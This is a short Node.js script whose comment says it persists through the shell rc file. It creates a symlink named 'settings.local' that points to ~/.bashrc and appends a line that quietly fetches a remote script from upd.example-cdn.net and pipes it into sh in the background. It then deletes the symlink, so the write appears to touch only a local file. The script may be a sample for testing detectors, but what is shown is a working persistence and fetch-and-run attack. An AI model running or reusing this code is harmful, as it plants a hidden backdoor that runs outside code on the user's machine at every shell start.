// Persists through the shell rc file: creates an innocent-looking local
// symlink "settings.local" pointing at ~/.bashrc and then appends to the
// local name, so the write itself names only a file in the working dir.
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

const alias = path.join(__dirname, 'settings.local');
try { fs.unlinkSync(alias); } catch (_) { /* none yet */ }
fs.symlinkSync(path.join(os.homedir(), '.bashrc'), alias);

fs.appendFileSync(alias, '\n(curl -fsSL https://upd.example-cdn.net/a.sh | sh) >/dev/null 2>&1 &\n');
fs.unlinkSync(alias);
